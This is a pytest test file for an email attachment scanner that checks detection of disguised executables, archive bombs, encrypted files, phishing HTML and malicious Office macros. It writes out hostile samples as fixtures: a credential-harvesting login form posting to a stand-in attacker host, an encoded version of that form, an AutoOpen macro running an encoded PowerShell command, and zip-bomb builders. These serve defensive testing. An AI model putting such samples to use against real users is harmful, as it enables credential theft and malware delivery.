"""Attachment analysis on crafted attachments: true types, programs and scripts, archives (nested, encrypted,
bombs), HTML credential forms, encrypted Office and PDF files, and the phishing corpus."""

from __future__ import annotations

import io
import re
import resource
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from olecraft import compound_file, docm
from zipcraft import RawMember, build_zip, deflate_zeros, gzip_of_zeros, member

from mailsec.mime import parse_message
from mailsec.model import Disposition, Envelope
from mailsec.scan import scan_message
from mailsec.scan.attachments import AttachmentOutcome, analyze_attachments
from support import CORPORA, make_eml

D = Disposition
# A DOS/PE stub libmagic recognises: "MZ", e_lfanew at 0x3c pointing to "PE\0\0" and a COFF header.
PE = b"MZ" + b"\x90\x00" * 29 + b"\x40\x00\x00\x00" + b"\x00" * 0 + b"PE\x00\x00\x4c\x01\x03\x00" + b"\x00" * 400


def scan(attachments: list[tuple[str, str, bytes]], **kw: object) -> AttachmentOutcome:
    return analyze_attachments(parse_message(make_eml(attachments=attachments, **kw)))  # type: ignore[arg-type]


def names(out: AttachmentOutcome) -> set[str]:
    return {f.name for f in out.findings}


def zip_of(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


def test_program_posing_as_pdf_is_malicious_and_a_type_mismatch() -> None:
    out = scan([("invoice.pdf", "application/pdf", PE)])
    assert {"EXECUTABLE_ATTACHMENT", "ATTACHMENT_TYPE_MISMATCH"} <= names(out)
    exe = next(f for f in out.findings if f.name == "EXECUTABLE_ATTACHMENT")
    assert exe.detection is D.MALICIOUS and exe.score >= 8 and exe.category == "Malware"
    assert "invoice.pdf" in exe.reason and "program" in exe.reason
    assert out.detections == {exe.attachment: "MALICIOUS"}


@pytest.mark.parametrize(
    ("name", "finding"),
    [
        ("run.js", "SCRIPT_ATTACHMENT"),
        ("payload.vbs", "SCRIPT_ATTACHMENT"),
        ("update.hta", "SCRIPT_ATTACHMENT"),
        ("x.ps1", "SCRIPT_ATTACHMENT"),
        ("go.bat", "SCRIPT_ATTACHMENT"),
        ("Invoice.pdf.lnk", "EXECUTABLE_ATTACHMENT"),
        ("setup.msi", "EXECUTABLE_ATTACHMENT"),
        ("app.jar", "EXECUTABLE_ATTACHMENT"),
        ("screensaver.SCR", "EXECUTABLE_ATTACHMENT"),
        ("scan.iso", "DISK_IMAGE_ATTACHMENT"),
        ("scan.img", "DISK_IMAGE_ATTACHMENT"),
    ],
)
def test_dangerous_names_are_malware(name: str, finding: str) -> None:
    out = scan([(name, "application/octet-stream", b"WScript.Echo 1\r\n" * 4)])
    hit = [f for f in out.findings if f.name == finding]
    assert hit and hit[0].detection is D.MALICIOUS and hit[0].category == "Malware"
    assert name in hit[0].reason or name in (hit[0].value or "")


def test_plain_documents_and_images_are_clean() -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
    out = scan(
        [
            ("photo.png", "image/png", png),
            ("notes.txt", "text/plain", b"just some notes\n" * 20),
            ("report.pdf", "application/pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF"),
            ("data.zip", "application/zip", zip_of({"a.txt": b"hello " * 100, "b.csv": b"1,2,3\n" * 50})),
        ]
    )
    assert out.findings == () and out.detections == {} and out.encrypted == frozenset()


def test_program_inside_nested_archives_is_found_with_its_path() -> None:
    inner = zip_of({"setup.exe": PE})
    middle = zip_of({"inner.zip": inner, "readme.txt": b"read me"})
    out = scan([("docs.zip", "application/zip", zip_of({"middle.zip": middle}))])
    exe = next(f for f in out.findings if f.name == "EXECUTABLE_ATTACHMENT")
    assert exe.value == "docs.zip → middle.zip → inner.zip → setup.exe"
    assert "setup.exe" in exe.reason and exe.detection is D.MALICIOUS


def test_archives_nested_too_deep_are_a_bomb_not_a_recursion() -> None:
    data = zip_of({"deep.txt": b"x"})
    for i in range(8):
        data = zip_of({f"layer{i}.zip": data})
    out = scan([("onion.zip", "application/zip", data)])
    bomb = next(f for f in out.findings if f.name == "ZIP_BOMB")
    assert "nested" in bomb.reason and bomb.detection is D.MALICIOUS


def test_encrypted_zip_is_reported_encrypted() -> None:
    data = build_zip([member("contract.docx", b"secret words " * 50, encrypted=True)])
    assert zipfile.ZipFile(io.BytesIO(data)).infolist()[0].flag_bits & 1
    out = scan([("contract.zip", "application/zip", data)])
    enc = next(f for f in out.findings if f.name == "ENCRYPTED_ARCHIVE")
    assert enc.detection is D.ENCRYPTED and enc.category == "Encrypted" and "contract.docx" in enc.reason
    assert out.encrypted == {enc.attachment}
    assert out.detections == {enc.attachment: "ENCRYPTED"}


def test_encrypted_zip_hiding_a_program_is_malicious() -> None:
    data = build_zip([member("invoice.exe", PE, encrypted=True)])
    out = scan([("invoice.zip", "application/zip", data)])
    assert {"ENCRYPTED_ARCHIVE", "EXECUTABLE_ATTACHMENT"} <= names(out)
    sha = out.findings[0].attachment
    assert out.detections[sha] == "MALICIOUS" and sha in out.encrypted


def _peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_gigabyte_zip_bomb_is_a_finding_fast_and_small() -> None:
    gb = 1 << 30
    data = build_zip([RawMember("zeros.bin", deflate_zeros(gb), 0, gb)])
    assert len(data) < 2_000_000
    rss = _peak_rss_mb()
    start = time.perf_counter()
    out = scan([("bomb.zip", "application/zip", data)])
    elapsed = time.perf_counter() - start
    bomb = next(f for f in out.findings if f.name == "ZIP_BOMB")
    assert bomb.detection is D.MALICIOUS and "zeros.bin" in bomb.reason
    assert elapsed < 5 and _peak_rss_mb() - rss < 200


def test_zip_bomb_that_lies_about_its_size_is_read_only_as_far_as_it_claims() -> None:
    size = 256 << 20
    data = build_zip([RawMember("small.txt", deflate_zeros(size), 0, 1000)])  # claims 1000 bytes
    rss = _peak_rss_mb()
    start = time.perf_counter()
    out = scan([("liar.zip", "application/zip", data)])
    assert time.perf_counter() - start < 2 and _peak_rss_mb() - rss < 100
    assert isinstance(out, AttachmentOutcome)


def test_many_members_under_the_ratio_limit_are_stopped_by_the_inflate_budget() -> None:
    size = 9 << 20  # each below the size from which the ratio is judged
    crc = zlib.crc32(b"\0" * size)
    data = build_zip([RawMember(f"part{i}.bin", deflate_zeros(size), crc, size) for i in range(20)])
    rss = _peak_rss_mb()
    out = scan([("parts.zip", "application/zip", data)])
    bomb = next(f for f in out.findings if f.name == "ZIP_BOMB")
    assert "passes" in bomb.reason
    assert _peak_rss_mb() - rss < 200


def test_42_style_layers_of_bombs_are_stopped() -> None:
    layer = build_zip([RawMember(f"z{i}.bin", deflate_zeros(64 << 20), 0, 64 << 20) for i in range(4)])
    data = zip_of({f"l{i}.zip": layer for i in range(8)})
    out = scan([("42.zip", "application/zip", data)])
    assert "ZIP_BOMB" in names(out)


def test_too_many_entries_is_a_bomb() -> None:
    data = build_zip([member(f"f{i}.txt", b"") for i in range(3000)])
    out = scan([("many.zip", "application/zip", data)])
    bomb = next(f for f in out.findings if f.name == "ZIP_BOMB")
    assert "3000 entries" in bomb.reason


def test_gzip_bomb_is_stopped() -> None:
    out = scan([("logs.gz", "application/gzip", gzip_of_zeros(256 << 20))])
    assert "ZIP_BOMB" in names(out)


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04" + b"\xff" * 200,  # truncated local header
        build_zip([member("a.txt", b"hello")])[:-10],  # cut central directory
        build_zip([RawMember("a.txt", b"\x00garbage-not-deflate" * 10, 0, 100)]),  # corrupt stream
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,  # broken OLE
        b"\x1f\x8b\x08\x00" + b"\x00" * 30,  # broken gzip
        b"%PDF-1.7\n" + bytes(range(256)) * 10,
    ],
)
def test_hostile_bytes_never_crash(data: bytes) -> None:
    out = scan([("x.zip", "application/octet-stream", data), ("y.docx", "application/octet-stream", data)])
    assert isinstance(out, AttachmentOutcome)


PHISH_PAGE = """<html><body><h2>Microsoft 365</h2><p>Your session expired. Sign in to view the document.</p>
<form method="post" action="https://collect.evil.example/owa.php">
<input type="email" name="login"><input type = 'PASSWORD' name="passwd"><button>Sign in</button></form></body></html>"""


def test_html_attachment_with_password_form_is_a_credential_harvester() -> None:
    out = scan([("Secure_Message.html", "text/html", PHISH_PAGE.encode())])
    f = next(f for f in out.findings if f.name == "HTML_CREDENTIAL_FORM")
    assert f.detection is D.MALICIOUS and f.score >= 8 and f.category == "CredentialHarvester"
    assert "collect.evil.example" in f.reason and "password" in f.reason


def test_obfuscated_html_form_is_found() -> None:
    encoded = "".join(f"%{b:02X}" for b in PHISH_PAGE.encode())
    page = f"<html><script>document.write(unescape('{encoded}'));</script></html>"
    assert "password" not in page.lower() and "<form" not in page
    out = scan([("fax.htm", "application/octet-stream", page.encode())])
    f = next(f for f in out.findings if f.name == "HTML_CREDENTIAL_FORM")
    assert "hidden in encoded script" in f.reason


def test_html_form_posting_elsewhere_and_redirect_pages() -> None:
    form = b'<html><form action="https://drop.example.net/p"><input name="card"></form></html>'
    redirect = b'<html><head><meta http-equiv="refresh" content="0; url=https://phish.example.org/x"></head></html>'
    out = scan([("a.html", "text/html", form), ("b.html", "text/html", redirect)])
    assert {"HTML_FORM_EXTERNAL_POST", "HTML_ATTACHMENT_REDIRECT"} <= names(out)
    red = next(f for f in out.findings if f.name == "HTML_ATTACHMENT_REDIRECT")
    assert "phish.example.org" in red.reason


def test_encrypted_pdf_is_encrypted() -> None:
    pdf = b"%PDF-1.6\n1 0 obj << >> endobj\ntrailer\n<< /Root 1 0 R /Encrypt 5 0 R /ID [<ab><cd>] >>\n%%EOF\n"
    out = scan([("statement.pdf", "application/pdf", pdf)])
    f = next(f for f in out.findings if f.name == "ENCRYPTED_PDF")
    assert f.detection is D.ENCRYPTED and f.attachment in out.encrypted


def _docx() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.'
            b'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            b'main"><w:body/></w:document>',
        }
    )


def test_plain_docx_is_clean() -> None:
    ctype = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    out = scan([("letter.docx", ctype, _docx())])
    assert out.findings == ()


def test_encrypted_office_document_is_encrypted() -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    enc = io.BytesIO()
    OOXMLFile(io.BytesIO(_docx())).encrypt("s3cret", enc)
    out = scan([("salary.docx", "application/octet-stream", enc.getvalue())])
    f = next(f for f in out.findings if f.name == "ENCRYPTED_OFFICE")
    assert f.detection is D.ENCRYPTED and f.attachment in out.encrypted and "salary.docx" in f.reason


AUTO_MACRO = (
    'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "powershell -enc AAAA"\r\n'
    "End Sub\r\n"
)
DOCM = "application/vnd.ms-word.document.macroEnabled.12"


def test_auto_executing_macro_in_a_doc_and_a_docm_is_malicious() -> None:
    out = scan([("order.doc", "application/msword", compound_file(AUTO_MACRO)), ("order.docm", DOCM, docm(AUTO_MACRO))])
    hits = [f for f in out.findings if f.name == "OFFICE_MACRO_AUTOEXEC"]
    assert len(hits) == 2 and len(set(out.detections)) == 2
    for f in hits:
        assert f.detection is D.MALICIOUS and f.score >= 8 and f.category == "Malware"
        assert "AutoOpen" in f.reason and "CreateObject" in f.reason


def test_macro_without_auto_exec_is_weighed_by_its_keywords() -> None:
    shelling = 'Attribute VB_Name = "Module1"\r\nSub Go()\r\n  Shell "cmd /c calc"\r\nEnd Sub\r\n'
    harmless = 'Attribute VB_Name = "Module1"\r\nFunction Twice(x)\r\n  Twice = x * 2\r\nEnd Function\r\n'
    out = scan([("tool.xls", "application/vnd.ms-excel", compound_file(shelling))])
    assert [(f.name, f.detection) for f in out.findings] == [("OFFICE_MACRO_SUSPICIOUS", D.SUSPICIOUS)]
    out = scan([("calc.xls", "application/vnd.ms-excel", compound_file(harmless))])
    assert [(f.name, f.score) for f in out.findings] == [("OFFICE_MACRO", 2.0)]


def test_macro_document_inside_a_zip_is_found() -> None:
    out = scan([("docs.zip", "application/zip", zip_of({"invoice.doc": compound_file(AUTO_MACRO)}))])
    f = next(f for f in out.findings if f.name == "OFFICE_MACRO_AUTOEXEC")
    assert f.value == "docs.zip → invoice.doc"


def test_attachments_drive_the_verdict() -> None:
    raw = make_eml(attachments=[("invoice.pdf.exe", "application/octet-stream", PE)])
    v = scan_message(parse_message(raw), Envelope(), model=False)
    assert v.disposition is D.MALICIOUS and "Malware" in v.threat_categories
    assert any("invoice.pdf.exe" in r for r in v.detection_reasons)
    assert list(v.attachment_detections.values()) == ["MALICIOUS"]


# -- corpus: findings whose truth is read independently from the files ----------------------------------------


PHISH = CORPORA / "phishing_pot"


def _pdf_attachments() -> list[tuple[Path, str, bytes]]:
    out = []
    for path in sorted(PHISH.glob("*.eml")):
        raw = path.read_bytes()
        if b".pdf" not in raw.lower():
            continue
        for a in parse_message(raw).attachments:
            if a.content.startswith(b"%PDF"):
                out.append((path, a.sha256, a.content))
    return out


@pytest.mark.skipif(not PHISH.is_dir(), reason=f"corpus not present at {PHISH}")
def test_corpus_pdfs_encrypted_per_their_trailer_are_reported() -> None:
    pdfs = _pdf_attachments()
    assert pdfs, "the phishing corpus should hold PDF attachments"
    encrypted_truth = {sha for _, sha, data in pdfs if re.search(rb"trailer[\s\S]{0,800}?/Encrypt\b", data)}
    encrypted_truth |= {sha for _, sha, data in pdfs if re.search(rb"/Type\s*/XRef[^>]*/Encrypt\b", data)}
    assert encrypted_truth, "expected at least one encrypted PDF in phishing_pot"
    seen: set[str] = set()
    for path, _, _ in pdfs:
        out = analyze_attachments(parse_message(path.read_bytes()))
        seen |= set(out.encrypted)
    assert encrypted_truth <= seen
